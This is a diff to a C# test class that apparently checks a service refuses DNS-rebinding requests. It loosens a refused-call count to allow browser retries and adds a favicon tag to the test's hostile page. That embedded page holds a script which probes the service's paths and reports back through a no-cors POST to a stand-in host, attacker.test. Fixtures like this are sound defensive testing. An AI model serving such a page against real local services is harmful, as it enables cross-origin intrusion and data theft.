@@ -41,10 +41,11 @@ internal sealed partial class ReboundPageTests
             Assert.That(attacker.Said, Does.Contain($"rebound {path} 403").And.Contain($"rebound with fields {path} 403"));
         }
 
-        // All six ways of each path, of which the log tells the first and counts the others.
+        // All six ways of each path, of which the log tells the first and counts the others. A call that the browser
+        // repeats, after a connection that broke, counts twice.
         await Eventually.TrueAsync(
             "the count of the refused calls",
-            () => RefusedIn(service.Process!.Errors) == 6 * Paths.Length);
+            () => RefusedIn(service.Process!.Errors) >= 6 * Paths.Length);
         var taken = Paths.SelectMany(path => LinesOf(service, path)).Where(line => !line.Contains(": 403 forbidden", StringComparison.Ordinal));
         Assert.That(taken.ToArray(), Has.Length.EqualTo(1).And.All.Contains("POST /deploy: 200"), "only the test's own deploy");
 
@@ -118,7 +119,7 @@ internal sealed partial class ReboundPageTests
     {
         var paths = string.Join(',', Paths.Select(path => $"'{path}'"));
         return $$$"""
-            <!doctype html><title>harmless</title><iframe name=sink></iframe><script>
+            <!doctype html><title>harmless</title><link rel=icon href='data:,'><iframe name=sink></iframe><script>
             const paths = [{{{paths}}}], hash = '{{{hash}}}';
             const tell = text => fetch('http://attacker.test:{{{reports}}}/said', {method: 'POST', mode: 'no-cors', body: text});
             const send = async (name, url, init) => {
